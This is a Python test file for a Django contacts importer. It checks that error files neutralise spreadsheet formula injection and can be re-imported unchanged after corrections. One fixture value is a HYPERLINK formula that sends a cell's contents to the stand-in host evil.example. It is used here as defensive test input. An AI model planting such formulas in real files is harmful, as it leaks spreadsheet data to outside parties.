"""Error files: a spreadsheet runs nothing in them, and an import of one reads what it read."""

import csv
import json
from contextlib import suppress
from io import StringIO
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.core.management import CommandError, call_command
from hypothesis import given
from hypothesis import strategies as st

from contacts.importing.error_file import safe_cell
from contacts.importing.row import ReadOptions, content
from contacts.models import Contact
from contacts.values.formulas import FORMULA_STARTS

LINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
CELLS = st.text(st.sampled_from([*"'=+-@\t\r\n ,;\"x5\u00a0", "\uff1d", "\uff0d"]), max_size=8)


@given(CELLS, st.booleans(), st.sampled_from(["--", "=", "n/a", ""]))
def test_a_cell_is_harmless_and_reads_as_it_did(
    cell: str, has_apostrophes: bool, marker: str
) -> None:
    options = ReadOptions({}, clear_marker=marker, has_apostrophes=has_apostrophes)
    written = safe_cell(cell, options)
    assert content(written, options._replace(has_apostrophes=True)) == content(cell, options)
    assert not written.startswith(FORMULA_STARTS) or cell.strip() == marker
    again = safe_cell(written, options._replace(has_apostrophes=True))
    assert again == written, "also in the error file of an error file"


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["csv", "ndjson"])
def test_an_error_file_runs_nothing_and_is_imported_again(
    acme: SimpleNamespace, tmp_path: Path, suffix: str
) -> None:
    rows = [
        {"phone": "+1 415", "name": LINK, "-note": "'@x", "tags": "--"},
        {"phone": "+1 415 555", "name": "+", "-note": "", "tags": "-vip,b"},
    ]
    file = tmp_path / f"shop.{suffix}"
    if suffix == "csv":
        with file.open("w", newline="") as opened:
            writer = csv.DictWriter(opened, rows[0])
            writer.writeheader()
            writer.writerows(rows)
    else:
        file.write_text("".join(json.dumps(row) + "\n" for row in rows))
    run(file)
    errors = tmp_path / f"shop.{suffix}.acme.errors.{suffix}"
    text = errors.read_text()
    if suffix == "csv":
        for row in csv.reader(StringIO(text)):
            assert not any(cell.startswith(FORMULA_STARTS) and cell != "--" for cell in row), row
    mended = text.replace("+1 415 555", "+14155550124").replace("+1 415", "+14155550123")
    errors.write_text(mended)
    run(errors)
    stored = {contact.phone: contact for contact in Contact.objects.all()}
    first, second = stored["+14155550123"], stored["+14155550124"]
    expected = "@x" if suffix == "csv" else "'@x"
    assert (first.name, first.tags, first.metadata) == (LINK, [], {"-note": expected})
    assert (second.name, second.tags) == ("+", ["-vip", "b"])


def run(file: Path) -> None:
    with suppress(CommandError, SystemExit):  # where records fail
        call_command("import_contacts", str(file), "--tenant", "acme", "--rest-to-metadata")
